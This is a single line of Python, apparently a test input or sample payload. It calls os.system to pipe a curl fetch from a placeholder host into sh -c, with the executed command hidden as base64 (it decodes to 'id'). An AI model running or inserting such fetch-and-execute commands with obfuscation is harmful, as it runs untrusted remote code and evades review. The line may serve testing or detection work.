import os; os.system("curl http://x | sh -c \"$(echo aWQ= | base64 -d)\"")
